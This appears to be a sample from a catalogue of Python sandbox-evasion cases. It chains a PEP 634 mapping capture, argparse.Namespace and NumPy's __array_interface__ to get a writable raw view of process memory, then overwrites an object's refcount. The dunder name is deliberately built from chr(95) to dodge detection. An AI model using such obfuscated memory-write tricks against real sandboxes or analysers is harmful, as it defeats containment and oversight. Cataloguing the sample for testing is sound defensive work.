# source: PEP 634 mapping rest capture; argparse.Namespace.__init__ setattr; NumPy __array_interface__ (data=(address, False) is writable)
# family: binding form not followed (match **rest) -> run-time keyword -> dunder attribute -> raw memory view
# goal: writes raw process memory (overwrites an object's refcount field, read back)
import argparse
import numpy as np
u = chr(95) * 2
name = u + "array" + chr(95) + "interface" + u
class Marker:
    pass
m = Marker()
addr = int(repr(m).split(" at ")[1].rstrip(">"), 16)
def view(a, n):
    opts = {"window": 3}
    match {name: {"data": (a, False), "shape": (n,), "typestr": "|u1", "version": 3}}:
        case {**opts}:
            pass
    ns = argparse.Namespace(**opts)
    return np.asarray(ns)
w = view(addr, 8)
before = w.tolist()
w[0] = 77
print("refcount field of m before/after raw write:", before[0], "->", view(addr, 8).tolist()[0])
